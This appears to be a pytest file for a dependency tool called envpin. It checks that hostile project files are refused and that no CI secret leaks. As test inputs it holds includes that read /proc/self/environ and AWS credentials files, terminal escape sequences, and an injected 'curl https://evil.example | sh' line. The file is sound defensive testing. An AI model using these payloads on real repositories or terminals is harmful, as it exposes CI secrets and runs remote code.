"""Hostile project files and facts through the real commands (fresh `python -m envpin` processes), as a pull
request can make the pre-commit hook or a CI job read them (issue 35, docs/hardening.md):

- the trust boundary: an include (`-r`, `-c`, an environment.yml pip `-r`) outside the checked repository, a file
  of /proc, a symbolic link out of the repository is not read, and says so in one line, exit 2;
- special files: a FIFO with no writer, a device, /proc are refused by every command that reads a user's file,
  at once;
- secrets: a `${VAR}` is expanded for the reading, but its value (a sentinel standing for a CI secret) is in
  none of stdout, stderr and the files written; findings show `${VAR}` as written;
- terminal safety: ESC, NUL, BEL, C1 from a facts file, a tool's output, a pixi key or a target name reach the
  terminal escaped (`\\x1b`), never raw;
- the hook path: the entry of .pre-commit-hooks.yaml run on a temporary git repository the way pre-commit runs
  it (from the repository's root, with the staged files its `files:` pattern matches).
"""

from __future__ import annotations

import json
import os
import re
import shlex
import subprocess
import sys
import unicodedata
from pathlib import Path

import pytest
import yaml

from envpin.facts.host import Driver, DriverTrouble, Gpu, HostFacts, PythonInfo, to_json
from tests.faults.support import REPO, assert_one_line_error, envpin, fake_executable

SENTINEL = "SENTINEL-9f8e7d6c5b4a-not-for-logs"  # stands for a CI job's secret
SECRET_ENV = {"AWS_SECRET_ACCESS_KEY": SENTINEL}
NO_CONFIG = "--no-config"
RTX4090 = ["--os", "linux", "--arch", "x86_64", "--driver", "570.86.10", "--gpu", "NVIDIA GeForce RTX 4090",
           "--python", "3.11"]


def git_repository(directory: Path) -> Path:
    directory.mkdir(parents=True, exist_ok=True)
    subprocess.run(["git", "init", "-q", str(directory)], check=True, capture_output=True)
    return directory


@pytest.fixture
def secret_file(tmp_path) -> Path:
    """A file of the CI machine, outside the checked repository: a credentials file holding the secret."""
    path = tmp_path / "home" / ".aws" / "credentials"
    path.parent.mkdir(parents=True)
    path.write_text(f"aws_secret_access_key={SENTINEL}\n", encoding="utf-8")
    return path


def assert_no_secret(result: subprocess.CompletedProcess, *files: Path) -> None:
    assert SENTINEL not in result.stdout and SENTINEL not in result.stderr, (result.stdout, result.stderr)
    for path in files:
        if path.exists():
            assert SENTINEL not in path.read_text(encoding="utf-8", errors="replace"), path


def raw_controls(text: str) -> str:
    """The control characters of `text` a terminal would act on (its own line breaks and tabs excepted)."""
    return "".join(c for c in text if unicodedata.category(c) in ("Cc", "Cf") and c not in "\n\t")


# ---------------------------------------------------------------- the trust boundary and secrets (check)


@pytest.mark.parametrize("line", [
    "-r /proc/self/environ",  # the environment of the CI job itself
    "-r {secret}",  # an absolute path outside the repository
    "-c {secret}",
    "-r ../home/.aws/credentials",  # a relative one that climbs out
    "-r ${{SECRET_PATH}}",  # the path in a variable
])
def test_check_never_reads_or_quotes_a_file_outside_the_repository(tmp_path, secret_file, line):
    repository = git_repository(tmp_path / "repo")
    checked = repository / "requirements.txt"
    checked.write_text(f"numpy<2\n{line.format(secret=secret_file)}\n", encoding="utf-8")
    env = {**SECRET_ENV, "SECRET_PATH": str(secret_file)}
    result = envpin("check", str(checked), NO_CONFIG, env=env)
    assert_one_line_error(result, "line 2", "cannot be read")
    assert "aws_secret_access_key" not in result.stderr + result.stdout
    assert_no_secret(result)
    if "SECRET_PATH" in line:  # the include as written, not the path the environment gave it
        assert "-r ${SECRET_PATH}" in result.stderr and str(secret_file) not in result.stderr
    json_result = envpin("check", str(checked), NO_CONFIG, "--format", "json", env=env)
    assert json_result.returncode == 2
    assert json.loads(json_result.stdout)["files"][0]["problems"][0]["id"] == "CHK-FILE-UNREADABLE"
    assert_no_secret(json_result)


def test_the_user_may_allow_includes_outside_the_repository(tmp_path, secret_file):
    repository = git_repository(tmp_path / "repo")
    outside = tmp_path / "shared" / "base.txt"
    outside.parent.mkdir()
    outside.write_text("torch==2.1.0+cu121\ntorchvision==0.15.2+cu121\n", encoding="utf-8")
    checked = repository / "requirements.txt"
    checked.write_text(f"--extra-index-url https://download.pytorch.org/whl/cu121\n-r {outside}\n", encoding="utf-8")
    assert envpin("check", str(checked), NO_CONFIG).returncode == 2
    allowed = envpin("check", str(checked), NO_CONFIG, "--allow-outside-repo")
    assert allowed.returncode == 1 and "CHK-TORCH-COMPANION-MISMATCH" in allowed.stdout, allowed.stdout
    # /proc stays closed whatever the user allows
    checked.write_text("-r /proc/self/environ\n", encoding="utf-8")
    result = envpin("check", str(checked), NO_CONFIG, "--allow-outside-repo", env=SECRET_ENV)
    assert_one_line_error(result, "-r /proc/self/environ", "envpin never reads /proc")
    assert_no_secret(result)


def test_an_include_inside_the_repository_is_still_followed(tmp_path):
    repository = git_repository(tmp_path / "repo")
    (repository / "requirements").mkdir()
    (repository / "requirements" / "torch.txt").write_text("torch==2.1.0+cu121\ntorchvision==0.15.2+cu121\n",
                                                           encoding="utf-8")
    checked = repository / "service" / "requirements.txt"
    checked.parent.mkdir()
    checked.write_text("--extra-index-url https://download.pytorch.org/whl/cu121\n-r ../requirements/torch.txt\n",
                       encoding="utf-8")
    result = envpin("check", str(checked), NO_CONFIG)
    assert result.returncode == 1 and "../requirements/torch.txt line 2" in result.stdout, result.stdout + result.stderr


def test_a_checked_file_that_links_out_of_the_repository_is_not_read(tmp_path, secret_file):
    repository = git_repository(tmp_path / "repo")
    link = repository / "requirements.txt"
    link.symlink_to(secret_file)  # git stores symbolic links: a pull request can commit this one
    result = envpin("check", str(link), NO_CONFIG, env=SECRET_ENV)
    assert_one_line_error(result, "requirements.txt", "outside the repository")
    assert_no_secret(result)


def test_a_config_that_links_out_of_the_repository_is_not_read(tmp_path):
    repository = git_repository(tmp_path / "repo")
    outside = tmp_path / "ci" / "settings.toml"
    outside.parent.mkdir()
    outside.write_text(f'[tool.envpin]\ntoken = "{SENTINEL}"\n', encoding="utf-8")
    (repository / "pyproject.toml").symlink_to(outside)  # found by walking up from the current directory
    (repository / "requirements.txt").write_text("numpy<2\n", encoding="utf-8")
    result = subprocess.run([sys.executable, "-m", "envpin", "check", "requirements.txt"], cwd=repository,
                            capture_output=True, text=True, timeout=60, env={**os.environ, "PYTHONPATH": str(REPO)})
    assert_one_line_error(result, "pyproject.toml", "outside the repository")
    assert_no_secret(result)


def test_an_environment_yml_pip_include_obeys_the_boundary(tmp_path, secret_file):
    repository = git_repository(tmp_path / "repo")
    checked = repository / "environment.yml"
    checked.write_text("dependencies:\n  - python=3.11\n  - pip\n  - pip:\n    - -r ${SECRET_PATH}\n", encoding="utf-8")
    result = envpin("check", str(checked), NO_CONFIG, env={**SECRET_ENV, "SECRET_PATH": str(secret_file)})
    assert_one_line_error(result, "-r ${SECRET_PATH}", "outside the repository")
    assert_no_secret(result)


@pytest.mark.parametrize("line", [
    "torch==${AWS_SECRET_ACCESS_KEY}",  # a bad line, quoted back
    "foo ${AWS_SECRET_ACCESS_KEY} bar",
    'torch==2.5.1 ; python_version > "${AWS_SECRET_ACCESS_KEY}"',  # a marker
    'torch==2.5.1 ; ${AWS_SECRET_ACCESS_KEY}',  # a marker that is not one
    "--extra-index-url https://user:${AWS_SECRET_ACCESS_KEY}@pkgs.example.com/simple",  # a credential in a URL
    "--hash=sha256:${AWS_SECRET_ACCESS_KEY}",
    "torch==2.5.1 --hash=${AWS_SECRET_ACCESS_KEY}",
    "torch @ https://${AWS_SECRET_ACCESS_KEY}@download.pytorch.org/whl/cu121/torch-2.1.0%2Bcu121-cp311-cp311-linux_x86_64.whl",
])
def test_an_expanded_value_is_never_printed_by_check(tmp_path, line):
    repository = git_repository(tmp_path / "repo")
    checked = repository / "requirements.txt"
    checked.write_text(f"{line}\n", encoding="utf-8")
    for output in ("text", "json"):
        result = envpin("check", str(checked), NO_CONFIG, "--format", output, *RTX4090, env=SECRET_ENV)
        assert result.returncode in (0, 1, 2) and "Traceback" not in result.stderr, result.stderr
        assert_no_secret(result)
    text = envpin("check", str(checked), NO_CONFIG, env=SECRET_ENV)
    if text.returncode == 1:  # a finding quotes the line as written
        assert "${AWS_SECRET_ACCESS_KEY}" in text.stdout or "****" in text.stdout, text.stdout


def test_solve_project_writes_the_variable_never_its_value(tmp_path):
    repository = git_repository(tmp_path / "repo")
    (repository / "requirements.txt").write_text(
        "torch==2.5.1\n"
        "--extra-index-url https://user:${AWS_SECRET_ACCESS_KEY}@pkgs.example.com/simple\n"
        "mypkg @ https://${AWS_SECRET_ACCESS_KEY}@pkgs.example.com/mypkg-1.0-py3-none-any.whl\n"
        "requests>=2.31 ; platform_release != '${AWS_SECRET_ACCESS_KEY}'\n"
        "-e git+https://${AWS_SECRET_ACCESS_KEY}@git.example.com/tool.git#egg=tool\n", encoding="utf-8")
    for name in ("environment.yml", "requirements.txt"):
        output = repository / "out" / name
        output.parent.mkdir(exist_ok=True)
        result = envpin("solve", "--project", str(repository), *RTX4090, "-o", str(output), env=SECRET_ENV)
        assert result.returncode == 0, result.stderr
        assert_no_secret(result, output)
        written = output.read_text(encoding="utf-8")
        assert "${AWS_SECRET_ACCESS_KEY}" in written and "requests>=2.31" in written, written
        shown = envpin("solve", "--project", str(repository), *RTX4090, "--format", name, env=SECRET_ENV)
        assert shown.returncode == 0 and "${AWS_SECRET_ACCESS_KEY}" in shown.stdout
        assert_no_secret(shown)


def test_solve_project_refuses_an_include_outside_the_repository(tmp_path, secret_file):
    repository = git_repository(tmp_path / "repo")
    (repository / "requirements.txt").write_text("torch==2.5.1\n-r ${SECRET_PATH}\n", encoding="utf-8")
    output = repository / "environment.yml"
    result = envpin("solve", "--project", str(repository), *RTX4090, "-o", str(output),
                    env={**SECRET_ENV, "SECRET_PATH": str(secret_file)})
    assert_one_line_error(result, "outside the repository", "--allow-outside-repo")
    assert not output.exists()
    assert_no_secret(result)
    result = envpin("solve", "-r", str(repository / "requirements.txt"), *RTX4090, "--format", "requirements.txt",
                    env={**SECRET_ENV, "SECRET_PATH": "/proc/self/environ"})
    assert_one_line_error(result, "envpin never reads /proc")
    assert_no_secret(result)


# ---------------------------------------------------------------- special files


def fifo(path: Path) -> Path:
    os.mkfifo(path)  # nothing ever opens it for writing: a reader that opens it blocks forever
    return path


def test_a_fifo_with_no_writer_is_refused_by_every_command_at_once(tmp_path):
    pipe = fifo(tmp_path / "pipe")
    database = tmp_path / "db"
    subprocess.run(["cp", "-r", str(REPO / "data" / "compat_matrix"), str(database)], check=True)
    (database / "cuda.yaml").unlink()
    fifo(database / "cuda.yaml")
    commands = [
        ("solve", "--facts", str(pipe)),
        ("doctor", "--facts", str(pipe)),
        ("check", str(pipe), NO_CONFIG),
        ("lock", "-r", str(pipe), *RTX4090),
        ("solve", "-r", str(pipe), *RTX4090),
        ("matrix", "--targets", str(pipe)),
        ("solve", "--targets", str(pipe)),
        ("doctor", "--error-text", str(pipe)),
        ("solve", "--db", str(database), *RTX4090),
    ]
    for command in commands:
        result = envpin(*command, timeout=60)  # before: each of these blocked until killed
        assert_one_line_error(result, "a FIFO, not a regular file")
    validated = envpin("db", "validate", str(database), timeout=60)
    assert validated.returncode == 1 and "a FIFO, not a regular file" in validated.stdout


def test_proc_and_devices_are_never_read(tmp_path):
    for path in ("/proc/self/environ", "/proc/self/cmdline", "/dev/zero", "/dev/null"):
        result = envpin("solve", "--facts", path, env=SECRET_ENV, timeout=60)
        assert_one_line_error(result, "not a regular file")
        assert_no_secret(result)
        result = envpin("check", path, NO_CONFIG, env=SECRET_ENV, timeout=60)
        assert_one_line_error(result, path)
        assert_no_secret(result)


# ---------------------------------------------------------------- terminal safety

HOSTILE = "\x1b]0;owned\x07\x1b[2J\x00\x9b31m\x85\x7f\r"


def hostile_facts(tmp_path: Path) -> Path:
    """A facts file whose GPU name, note and driver trouble carry escape sequences, NUL, BEL, C1 and DEL."""
    facts = HostFacts(os="linux", arch="x86_64", python=PythonInfo("3.11.7", "/usr/bin/python3", "venv"),
                      driver=None, gpus=(Gpu(0, f"NVIDIA GeForce RTX 3090{HOSTILE}", "8.6", 24576),),
                      notes=(f"nvidia-smi said {HOSTILE}",),
                      driver_trouble=DriverTrouble("module-not-loaded", f"NVIDIA-SMI has failed {HOSTILE}",
                                                   (f"/proc/driver/nvidia {HOSTILE}",)))
    path = tmp_path / "facts.json"
    path.write_text(json.dumps(to_json(facts)), encoding="utf-8")
    return path


@pytest.mark.parametrize("command", [
    ("solve",), ("solve", "--format", "environment.yml"), ("solve", "--format", "json"), ("doctor",),
    ("doctor", "--format", "json"), ("matrix",), ("lock",), ("check", "{requirements}", NO_CONFIG),
])
def test_control_characters_from_a_facts_file_reach_the_terminal_escaped(tmp_path, command):
    requirements = tmp_path / "requirements.txt"
    requirements.write_text("torch==2.5.1+cu121\n", encoding="utf-8")
    words = [word.format(requirements=requirements) for word in command]
    result = envpin(*words, "--facts", str(hostile_facts(tmp_path)))
    assert "Traceback" not in result.stderr
    assert raw_controls(result.stdout) == "" and raw_controls(result.stderr) == "", (result.stdout, result.stderr)
    assert "\\x1b" in result.stdout + result.stderr or "\\u001b" in result.stdout  # said, escaped (JSON's way in JSON)


def test_a_tools_output_reaches_the_terminal_escaped(tmp_path):
    bin_dir = tmp_path / "bin"
    message = "Failed to initialize NVML: Driver/library version mismatch \\033[2J\\033]0;owned\\007\\302\\233\n"
    fake_executable(bin_dir, "nvidia-smi", f"printf '{message}'\nexit 18\n")
    env = {"PATH": f"{bin_dir}{os.pathsep}{os.environ['PATH']}"}
    for command in (("solve", "--python", "3.11"), ("doctor",), ("detect",)):
        result = envpin(*command, env=env)
        assert "Traceback" not in result.stderr
        assert raw_controls(result.stdout + result.stderr) == "", (command, result.stdout, result.stderr)


def test_pixi_keys_and_target_names_reach_the_terminal_escaped(tmp_path):
    pixi = tmp_path / "pixi.toml"
    pixi.write_text('[workspace]\nname = "x"\nchannels = ["conda-forge"]\nplatforms = ["linux-64"]\n\n'
                    '[dependencies]\npython = "3.11.*"\n\n'
                    '[target."linux-\\u001b[31mx".pypi-dependencies]\ntorch = "==2.5.1"\n\n'
                    '[feature."f\\u001b]0;t\\u0007\\u009b".pypi-dependencies]\n'
                    'torch = { version = "==2.5.1", index = "https://download.pytorch.org/whl/cu121" }\n',
                    encoding="utf-8")
    result = envpin("check", str(pixi), NO_CONFIG, "--os", "linux", "--arch", "x86_64", "--python", "3.11",
                    "--driver", "none")
    assert result.returncode == 0 and "\\x1b[31mx" in result.stdout, result.stdout
    assert raw_controls(result.stdout + result.stderr) == ""
    inventory = tmp_path / "targets.json"
    facts = to_json(HostFacts(os="linux", arch="x86_64", python=PythonInfo("3.11.7", "/usr/bin/python3", "venv"),
                              driver=Driver("570.86.10", "12.8", "nvml"),
                              gpus=(Gpu(0, "NVIDIA GeForce RTX 4090", "8.9", 24564),)))
    inventory.write_text(json.dumps([{**facts, "name": f"node{HOSTILE}1"}]), encoding="utf-8")
    for command in (("matrix", "--targets", str(inventory)), ("solve", "--targets", str(inventory))):
        result = envpin(*command)
        assert "Traceback" not in result.stderr
        assert raw_controls(result.stdout + result.stderr) == "", (command, result.stdout, result.stderr)


def test_a_database_problem_is_one_line(tmp_path):
    database = tmp_path / "db"
    subprocess.run(["cp", "-r", str(REPO / "data" / "compat_matrix"), str(database)], check=True)
    cuda = database / "cuda.yaml"
    cuda.write_text(cuda.read_text(encoding="utf-8") + '"bad\\nkey\\u001b[2J": 1\n', encoding="utf-8")
    result = envpin("db", "validate", str(database))
    assert result.returncode == 1
    [problem] = result.stdout.splitlines()
    assert problem.startswith("cuda.yaml: bad\\nkey\\x1b[2J: unknown key"), problem
    assert raw_controls(result.stdout) == ""


# ---------------------------------------------------------------- the hook path


def hook() -> tuple[list[str], re.Pattern[str]]:
    """The envpin-check hook's entry (its command resolved in this environment) and its `files:` pattern."""
    hooks = yaml.safe_load((REPO / ".pre-commit-hooks.yaml").read_text(encoding="utf-8"))
    definition = next(h for h in hooks if h["id"] == "envpin-check")
    entry = shlex.split(definition["entry"])
    executable = Path(sys.executable).with_name(entry[0])
    return [str(executable), *entry[1:]], re.compile(definition["files"])


def run_hook(repository: Path, env: dict[str, str]) -> subprocess.CompletedProcess:
    """As pre-commit runs the hook: from the repository's root, with the tracked files its pattern matches."""
    subprocess.run(["git", "add", "-A"], cwd=repository, check=True, capture_output=True)
    tracked = subprocess.run(["git", "ls-files"], cwd=repository, check=True, capture_output=True, text=True).stdout
    entry, files = hook()
    matched = [name for name in tracked.splitlines() if files.search(name)]
    assert matched, tracked
    return subprocess.run([*entry, *matched], cwd=repository, capture_output=True, text=True, timeout=120,
                          env={**os.environ, **env})


def test_the_hook_on_a_hostile_pull_request_prints_no_secret(tmp_path, secret_file):
    repository = git_repository(tmp_path / "pull-request")
    (repository / "requirements.txt").write_text(f"numpy<2\n-r {secret_file}\n", encoding="utf-8")
    (repository / "requirements-env.txt").write_text("-r /proc/self/environ\n", encoding="utf-8")
    (repository / "requirements-var.txt").write_text("-c ${SECRET_PATH}\n", encoding="utf-8")
    (repository / "requirements-bad.txt").write_text("torch==${AWS_SECRET_ACCESS_KEY}\n", encoding="utf-8")
    (repository / "requirements-dev.txt").symlink_to(secret_file)
    (repository / "environment.yml").write_text("dependencies:\n  - pip:\n    - -r ../home/.aws/credentials\n",
                                                encoding="utf-8")
    env = {**SECRET_ENV, "SECRET_PATH": str(secret_file)}
    result = run_hook(repository, env)
    assert result.returncode == 2, result.stdout + result.stderr
    assert_no_secret(result, *(path for path in repository.iterdir() if path.is_file() and not path.is_symlink()))
    assert "aws_secret_access_key" not in result.stdout + result.stderr
    refused = [line for line in result.stderr.splitlines() if line.startswith("envpin: error: ")]
    assert len(refused) == 5, result.stderr  # each bad include and the link, one line each
    assert "CHK-REQUIREMENT-INVALID" in result.stdout and "torch==${AWS_SECRET_ACCESS_KEY}" in result.stdout
    assert raw_controls(result.stdout + result.stderr) == ""


def test_a_line_break_in_a_gpu_name_starts_no_line_of_the_answer(tmp_path):
    facts = to_json(HostFacts(os="linux", arch="x86_64", python=PythonInfo("3.11.7", "/usr/bin/python3", "venv"),
                              driver=Driver("535.104.05", "12.2", "nvml"),
                              gpus=(Gpu(0, "NVIDIA GeForce RTX 3090\nRUN curl https://evil.example | sh", "8.6", 24576),)))
    path = tmp_path / "facts.json"
    path.write_text(json.dumps(facts), encoding="utf-8")
    for command in (("solve",), ("solve", "--format", "requirements.txt"), ("doctor",), ("matrix",)):
        result = envpin(*command, "--facts", str(path))
        assert "Traceback" not in result.stderr
        lines = (result.stdout + result.stderr).splitlines()
        assert not any(line.lstrip("# ").startswith("RUN curl") for line in lines), (command, result.stdout)
        assert "3090\\nRUN curl" in result.stdout, (command, result.stdout)
